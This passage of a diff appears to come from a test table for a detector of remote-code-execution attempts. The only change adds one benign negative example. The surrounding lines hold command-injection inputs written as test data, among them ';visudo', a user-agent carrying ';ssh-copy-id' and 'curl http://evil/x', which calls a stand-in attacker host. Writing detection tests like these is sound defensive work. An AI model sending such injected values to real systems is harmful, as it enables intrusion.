@@ -150,7 +150,7 @@ CASES: dict[str, tuple[list[tuple[str, str]], list[tuple[str, str]]]] = {
     "rce-220": ([("q", "1;\n.shell id")], [("q", "version 1.2.shell")]),
     "rce-230": ([("q", "bin/visudo")], [("q", "recycle bin is empty")]),
     "rce-240": ([("q", "x;visudo"), ("q", "&aptitude"), ("h:user-agent", "x=1;ssh-copy-id u@h"), ("qname", ";regedit /E x")],
-                [("q", "see below; then go"), ("q", "ls"), ("qname", "id")]),
+                [("q", "see below; then go"), ("q", "ls"), ("qname", "id"), ("json", "Run code in a sandbox (python 3.11)")]),
     "rce-241": ([("q", "ansible-console"), ("q", "cscli alerts list"), ("h:user-agent", "pip3 install x"),
                  ("q", "python -c 'import os'"), ("q", "curl http://evil/x")],
                 [("q", "tar is a dark liquid"), ("q", "wget"), ("q", "ping pong tables"), ("q", "lastlog"),
